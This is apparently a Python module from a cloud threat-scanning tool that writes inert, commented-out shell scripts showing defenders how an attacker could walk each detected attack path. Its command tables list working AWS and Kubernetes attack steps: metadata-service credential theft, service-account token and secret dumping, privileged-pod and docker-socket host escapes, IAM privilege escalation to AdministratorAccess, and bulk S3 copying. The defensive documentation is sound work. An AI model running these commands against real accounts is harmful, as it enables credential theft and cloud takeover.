"""`--explain`: one inert script per attack path, showing how an attacker would walk it.

Every command is a comment and the script exits before anything else; the files are written
without the executable bit. They are documentation for defenders, not tooling.
"""

from __future__ import annotations

from pathlib import Path

from mezzo.threatscan.analyze import Report
from mezzo.threatscan.model import Finding, Step

_COMMANDS: dict[str, tuple[str, ...]] = {
    "public-instance": ("curl -sk https://<public-ip>/  # find the vulnerable endpoint",),
    "internet-facing-lb": ("curl -sk https://<load-balancer-dns>/",),
    "lb-target": ("# exploit the application behind the load balancer to get a shell",),
    "service-nodeport": ("curl -sk http://<node-ip>:<node-port>/",),
    "service-loadbalancer": ("curl -sk http://<load-balancer-ip>/",),
    "ingress": ("curl -sk https://<ingress-host>/",),
    "ingress-route": ("# the ingress forwards the request to the service",),
    "service-selector": ("# exploit the application in the pod to get a shell",),
    "public-lambda": ("curl -s https://<function-url>/",),
    "public-bucket": ("aws s3 cp --no-sign-request --recursive s3://<bucket>/ ./loot/",),
    "public-database": ("psql -h <db-endpoint> -U <user>  # or mysql, brute-force the password",),
    "public-trust-policy": ("aws sts assume-role --role-arn <role-arn> --role-session-name x",),
    "workload-role": (
        "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token "
        "-H 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
        'curl -s -H "X-aws-ec2-metadata-token: $TOKEN" '
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/<role>",
        "export AWS_ACCESS_KEY_ID=... AWS_SECRET_ACCESS_KEY=... AWS_SESSION_TOKEN=...",
    ),
    "mounted-service-account-token": (
        "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)",
        'kubectl --token "$TOKEN" --server https://kubernetes.default.svc auth can-i --list',
    ),
    "rbac-secrets-read": ('kubectl --token "$TOKEN" get secrets -A -o yaml',),
    "rbac-pod-exec": ('kubectl --token "$TOKEN" exec -it <pod> -- sh',),
    "rbac-pod-create": (
        'kubectl --token "$TOKEN" run pwn --image=alpine --overrides='
        '\'{"spec":{"hostPID":true,"containers":[{"name":"p","image":"alpine",'
        '"securityContext":{"privileged":true},"command":["nsenter","-t","1","-a",'
        '"sh"]}]}}\'',
    ),
    "rbac-bind": (
        "kubectl create clusterrolebinding pwn --clusterrole=cluster-admin "
        "--serviceaccount=<ns>:<sa>",
    ),
    "rbac-escalate": ("kubectl edit clusterrole <own-role>  # add '*' verbs on '*'",),
    "rbac-impersonate": ("kubectl --as=system:admin --as-group=system:masters get secrets -A",),
    "rbac-cluster-admin": ('kubectl --token "$TOKEN" get secrets -A',),
    "privileged-container": ("mkdir /host && mount /dev/<root-disk> /host && chroot /host",),
    "hostpath-mount": ("chroot /<mount-path> sh",),
    "hostpath-runtime-socket": (
        "docker -H unix:///<socket> run --privileged --pid=host alpine nsenter -t 1 -a sh",
    ),
    "credentials-in-config": (
        "aws lambda get-function-configuration --function-name <function>  # or the holder's describe",
        "export AWS_ACCESS_KEY_ID=<found> AWS_SECRET_ACCESS_KEY=<found>",
    ),
    "secret-in-manifest": ('kubectl --token "$TOKEN" get deploy,cm -o yaml | grep -i -A1 <name>',),
    "rbac-pod-create-token": (
        'kubectl --token "$TOKEN" run x --image=alpine --overrides='
        '\'{"spec":{"serviceAccountName":"<sa>"}}\' -- cat '
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ),
    "rds:ModifyDBInstance": (
        "aws rds modify-db-instance --db-instance-identifier <db> "
        "--master-user-password '<new>' --apply-immediately",
    ),
    "iam:CreateVirtualMFADevice+iam:EnableMFADevice+sts:AssumeRole": (
        "aws iam create-virtual-mfa-device --virtual-mfa-device-name <self> --outfile qr.png "
        "--bootstrap-method Base32StringSeed",
        "aws iam enable-mfa-device --user-name <self> --serial-number <arn> "
        "--authentication-code1 <code> --authentication-code2 <next-code>",
        "aws sts assume-role --role-arn <role-arn> --role-session-name x --serial-number <arn> "
        "--token-code <code>",
    ),
    "s3:PutObject (code in S3)": ("aws s3 cp ./payload s3://<bucket>/<key>",),
    "codebuild:StartBuild": (
        "aws codebuild start-build --project-name <project> --buildspec-override file://bs.yml",
    ),
    "ecs-host-escape": (
        "docker -H unix:///var/run/docker.sock run --privileged --pid=host alpine",
    ),
    "irsa": (
        "aws sts assume-role-with-web-identity --role-arn <role-arn> "
        '--web-identity-token "$(cat $AWS_WEB_IDENTITY_TOKEN_FILE)" --role-session-name x',
    ),
    "sts:AssumeRole": ("aws sts assume-role --role-arn <role-arn> --role-session-name x",),
    "full-admin": ("aws iam list-users  # every action is allowed",),
    "iam:CreateAccessKey": ("aws iam create-access-key --user-name <user>",),
    "iam:CreateLoginProfile": (
        "aws iam create-login-profile --user-name <user> --password '<new-password>'",
    ),
    "iam:UpdateLoginProfile": (
        "aws iam update-login-profile --user-name <user> --password '<new-password>'",
    ),
    "iam:AddUserToGroup": ("aws iam add-user-to-group --user-name <self> --group-name <group>",),
    "iam:UpdateAssumeRolePolicy": (
        "aws iam update-assume-role-policy --role-name <role> --policy-document file://trust.json",
        "aws sts assume-role --role-arn <role-arn> --role-session-name x",
    ),
    "iam:PutUserPolicy": (
        "aws iam put-user-policy --user-name <self> --policy-name x "
        "--policy-document file://admin.json",
    ),
    "iam:AttachUserPolicy": (
        "aws iam attach-user-policy --user-name <self> --policy-arn "
        "arn:aws:iam::aws:policy/AdministratorAccess",
    ),
    "iam:PutRolePolicy": (
        "aws iam put-role-policy --role-name <self> --policy-name x "
        "--policy-document file://admin.json",
    ),
    "iam:AttachRolePolicy": (
        "aws iam attach-role-policy --role-name <self> --policy-arn "
        "arn:aws:iam::aws:policy/AdministratorAccess",
    ),
    "iam:PutGroupPolicy": (
        "aws iam put-group-policy --group-name <group> --policy-name x "
        "--policy-document file://admin.json",
    ),
    "iam:AttachGroupPolicy": (
        "aws iam attach-group-policy --group-name <group> --policy-arn "
        "arn:aws:iam::aws:policy/AdministratorAccess",
    ),
    "iam:CreatePolicyVersion": (
        "aws iam create-policy-version --policy-arn <policy-arn> "
        "--policy-document file://admin.json --set-as-default",
    ),
    "iam:SetDefaultPolicyVersion": (
        "aws iam set-default-policy-version --policy-arn <policy-arn> --version-id v1",
    ),
    "lambda:UpdateFunctionCode": (
        "aws lambda update-function-code --function-name <fn> --zip-file fileb://payload.zip",
        "aws lambda invoke --function-name <fn> out.json",
    ),
    "ssm:SendCommand": (
        "aws ssm send-command --instance-ids <id> --document-name "
        "AWS-RunShellScript --parameters commands='<cmd>'",
    ),
    "ssm:StartSession": ("aws ssm start-session --target <instance-id>",),
    "ec2-instance-connect:SendSSHPublicKey": (
        "aws ec2-instance-connect send-ssh-public-key --instance-id <id> --instance-os-user "
        "ec2-user --ssh-public-key file://key.pub",
    ),
    "s3:GetObject": ("aws s3 cp --recursive s3://<bucket>/ ./loot/",),
    "secretsmanager:GetSecretValue": ("aws secretsmanager get-secret-value --secret-id <secret>",),
    "dynamodb:Scan": ("aws dynamodb scan --table-name <table>",),
    "ssm:GetParameter": ("aws ssm get-parameter --with-decryption --name <parameter>",),
    "security-group-reference": ("psql -h <db-endpoint> -U <user>",),
    "group-membership": ("# the group's policies now apply to this user",),
}

_PASSROLE = {
    "ec2:RunInstances": "aws ec2 run-instances --image-id <ami> --iam-instance-profile "
    "Name=<profile-of-role> --user-data file://exfiltrate-creds.sh",
    "lambda:CreateFunction": "aws lambda create-function --function-name x --runtime python3.12 "
    "--handler h.handler --role <role-arn> --zip-file fileb://payload.zip",
    "lambda:InvokeFunction": "aws lambda invoke --function-name x out.json",
    "lambda:CreateEventSourceMapping": "aws lambda create-event-source-mapping --function-name x "
    "--event-source-arn <stream-arn>",
    "glue:CreateDevEndpoint": "aws glue create-dev-endpoint --endpoint-name x --role-arn "
    "<role-arn> --public-key file://key.pub",
    "glue:CreateJob": "aws glue create-job --name x --role <role-arn> --command "
    "Name=pythonshell,ScriptLocation=s3://<bucket>/payload.py",
    "glue:StartJobRun": "aws glue start-job-run --job-name x",
    "sagemaker:CreateNotebookInstance": "aws sagemaker create-notebook-instance "
    "--notebook-instance-name x --instance-type ml.t3.medium "
    "--role-arn <role-arn>",
    "sagemaker:CreatePresignedNotebookInstanceUrl": "aws sagemaker "
    "create-presigned-notebook-instance-url "
    "--notebook-instance-name x",
    "sagemaker:CreateTrainingJob": "aws sagemaker create-training-job ... --role-arn <role-arn>",
    "sagemaker:CreateProcessingJob": "aws sagemaker create-processing-job ... --role-arn "
    "<role-arn>",
    "cloudformation:CreateStack": "aws cloudformation create-stack --stack-name x --template-body "
    "file://admin-user.yaml --role-arn <role-arn> "
    "--capabilities CAPABILITY_IAM",
    "codebuild:CreateProject": "aws codebuild create-project --name x --service-role <role-arn> "
    "--source type=NO_SOURCE,buildspec=buildspec.yml ...",
    "codebuild:StartBuild": "aws codebuild start-build --project-name x",
    "datapipeline:CreatePipeline": "aws datapipeline create-pipeline --name x --unique-id x",
    "datapipeline:PutPipelineDefinition": "aws datapipeline put-pipeline-definition "
    "--pipeline-id <id> --pipeline-definition "
    "file://shell-activity.json",
    "datapipeline:ActivatePipeline": "aws datapipeline activate-pipeline --pipeline-id <id>",
}


def commands_for(technique: str) -> tuple[str, ...]:
    if technique.startswith("iam:PassRole+"):
        return tuple(_PASSROLE.get(a, f"# {a}") for a in technique.split("+")[1:])
    if technique.startswith("capability-"):
        return ("# use the added capability to load a module / mount the host cgroup",)
    return _COMMANDS.get(technique, (f"# {technique}",))


def script(finding: Finding) -> str:
    lines = [
        "#!/bin/sh",
        "# mezzo scan --explain: how an attacker could walk this attack path.",
        "# INERT: every command below is commented out and the script exits first.",
        "# Placeholders in <angle brackets> are deliberately left unfilled.",
        f"# Rule: {finding.rule.id} {finding.rule.short}",
        f"# Severity: {finding.severity.label}",
        f"# Path: {finding.message}",
        f"# Fingerprint: {finding.fingerprint}",
        "exit 0",
        "",
    ]
    *walk, end = finding.steps
    for number, step in enumerate(walk, 1):
        lines += _step(number, step)
    lines.append(f"# Result: the attacker controls {end.label}.")
    return "\n".join(lines) + "\n"


def _step(number: int, step: Step) -> list[str]:
    where = f" ({step.location})" if step.location else ""
    out = [f"# Step {number}: from {step.label}{where}", f"#   the attacker {step.action}"]
    out += [f"#   $ {command}" for command in commands_for(step.technique)]
    out.append("")
    return out


def write(report: Report, directory: Path) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    written: list[Path] = []
    paths = [f for f in report.findings if f.steps]
    for number, finding in enumerate(paths, start=1):
        name = f"path-{number:02d}-{finding.rule.id.lower()}-{finding.fingerprint[:8]}.sh"
        target = directory / name
        target.write_text(script(finding))
        target.chmod(0o644)
        written.append(target)
    return written
